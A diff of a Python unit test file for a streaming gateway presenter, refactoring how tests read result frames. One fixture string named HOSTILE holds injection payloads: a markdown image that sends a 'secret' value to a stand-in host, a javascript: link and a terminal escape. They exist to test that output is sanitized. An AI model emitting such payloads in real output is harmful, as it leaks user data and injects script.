@@ -7,7 +7,7 @@ from typing import Any
 import pytest
 
 from services.gateway.streaming.cursor import StreamCursor
-from services.gateway.streaming.presenter import QuestionPresenter, question_json, result_json, status_of
+from services.gateway.streaming.presenter import QuestionPresenter, status_of
 from services.gateway.streaming.stream import Frame
 from shared.contracts.domain import Citation, Context
 from shared.contracts.facts import FACTS, TERMINAL, Fact, QuestionAbandoned, QuestionRejected
@@ -22,7 +22,10 @@ from tests.unit.gateway.harness import (
     asked,
     drafted,
     last_id,
+    plain,
+    question_json,
     read,
+    result_json,
     run,
     stored,
     then,
@@ -81,9 +84,9 @@ def test_every_ending_is_a_result_of_one_shape(fact: type[Fact]) -> None:
     (*_, last) = presenter.fact(event, 7)
 
     assert presenter.ended
-    assert last.data == question_json(event)
-    assert set(last.data) == {"id", "status", "pipeline", "conversation_id", "links", "result"}
-    result = last.data["result"]
+    assert plain(last) == question_json(event)
+    assert set(plain(last)) == {"id", "status", "pipeline", "conversation_id", "links", "result"}
+    result = plain(last)["result"]
     assert set(result) >= RESULT_KEYS
     assert result["outcome"] == outcome_of(event.payload).name
     assert set(result["answer"]) == {"content", "type", "sentences", "payload", "links", "state", "paragraphs"}
@@ -104,7 +107,7 @@ def test_an_answer_is_its_citations_then_its_followups_then_its_result() -> None
     assert [frame.id for frame in frames] == ["9.1", "9.2", "9.3", "9.4", "9"]
     assert [frame.data["number"] for frame in frames[:2]] == [one.number for one in CITATIONS]
     assert frames[2].data == {"questions": list(FOLLOWUPS)}
-    assert frames[-1].data["result"]["attempts"] == 1
+    assert plain(frames[-1])["result"]["attempts"] == 1
 
 
 @pytest.mark.parametrize(
@@ -356,11 +359,11 @@ def test_a_reader_of_everything_gets_nothing_more() -> None:
 def test_an_overdue_question_gets_a_result_of_the_usual_shape_that_is_no_fact() -> None:
     status, result = QuestionPresenter().overdue(CID, "conversation")
 
-    assert status.data["status"] == result.data["status"] == "ERROR"
+    assert status.data["status"] == plain(result)["status"] == "ERROR"
     assert not status.id
     assert not result.id
-    assert set(result.data["result"]) >= RESULT_KEYS
-    assert result.data["result"]["error"] == {"kind": "deadline", "stage": "gateway"}
+    assert set(plain(result)["result"]) >= RESULT_KEYS
+    assert plain(result)["result"]["error"] == {"kind": "deadline", "stage": "gateway"}
 
 
 HOSTILE = "It opens <b>at eight</b>. ![x](https://evil.example/p.png?q=secret) [more](javascript:alert(1))\x1b[2J"
@@ -402,7 +405,7 @@ def test_whatever_a_verdict_says_its_result_is_clean() -> None:
     )
 
     frames = QuestionPresenter().fact(then(asked(), fact), 5)
-    result = frames[-1].data["result"]
+    result = plain(frames[-1])["result"]
 
     assert result["answer"]["content"] == SHOWN
     assert result["answer"]["sentences"][0]["text"] == SHOWN
